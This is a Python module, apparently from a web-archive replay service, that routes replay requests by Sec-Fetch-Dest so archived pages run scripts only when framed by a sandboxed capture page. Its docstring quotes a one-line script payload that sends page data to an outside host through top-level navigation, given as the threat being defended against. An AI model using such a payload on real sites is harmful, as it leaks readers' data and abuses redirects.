"""How a replay request is answered, by who loads it (``Sec-Fetch-Dest``) and which space it asks for.

An archived document is only ever shown framed by the UI's capture page, inside an iframe whose
sandbox has no ``allow-top-navigation`` and no ``allow-popups``.  Opened as the top-level page (a
typed or shared replay URL, "open frame in new tab", a popup) the same document would escape that
frame: with scripts, ``top.location.href = 'http://elsewhere/?' + data`` sends the reader anywhere,
an open redirect on the archive's own host.  So a top-level navigation (``Sec-Fetch-Dest:
document``) is sent to the capture page, which frames it, in the view without scripts: a replay
URL handed to someone never turns scripts on for them, only the capture page's switch does.

Scripts run only when both hold: the URL is in the scripted space (``/replay/scripts/...``, where
the capture page's "replay with scripts" switch points its iframe) and the browser says it is
loading a frame.  Every other request (subresources, and clients that send no ``Sec-Fetch-Dest``
at all: curl, wget, pywb-like tools, browsers older than 2023) gets the archived bytes under the
policy without scripts.  Such clients are not told to go elsewhere: they run no scripts, or, for
an old browser, the policy's sandbox keeps the scripts off.
"""

from __future__ import annotations

from enum import Enum

# Nested browsing contexts the capture page (or a framed archived page) loads replay URLs into.
FRAME_DESTINATIONS = frozenset({"iframe", "frame"})
TOP_LEVEL_DESTINATION = "document"
# Where the UI's capture page lives, relative to the root the replay router is mounted at.
CAPTURE_PAGE = "captures/{capture_id}"
REPLAY_SPACE = "replay/"
SCRIPTED_REPLAY_SPACE = "replay/scripts/"


class Answer(Enum):
    """What a replay request gets."""

    CAPTURE_PAGE = "a redirect to the capture page framing the capture"
    WITHOUT_SCRIPTS = "the archived content, scripts off"
    WITH_SCRIPTS = "the archived content, scripts on"


def answer_for(sec_fetch_dest: str | None, *, scripts_asked: bool) -> Answer:
    """The answer to a request whose ``Sec-Fetch-Dest`` is ``sec_fetch_dest`` (None when absent),
    for a URL in the scripted replay space when ``scripts_asked``."""
    destination = (sec_fetch_dest or "").strip().lower()
    if destination == TOP_LEVEL_DESTINATION:
        return Answer.CAPTURE_PAGE
    if scripts_asked and destination in FRAME_DESTINATIONS:
        return Answer.WITH_SCRIPTS
    return Answer.WITHOUT_SCRIPTS


def capture_page_path(root: str, capture_id: int) -> str:
    """The UI page showing capture ``capture_id``, for a replay router mounted at ``root`` (``/``)."""
    return root + CAPTURE_PAGE.format(capture_id=capture_id)


def replay_prefix(root: str, *, scripts: bool) -> str:
    """The replay space URLs are rewritten into: the scripted one keeps a scripted view scripted."""
    return root + (SCRIPTED_REPLAY_SPACE if scripts else REPLAY_SPACE)
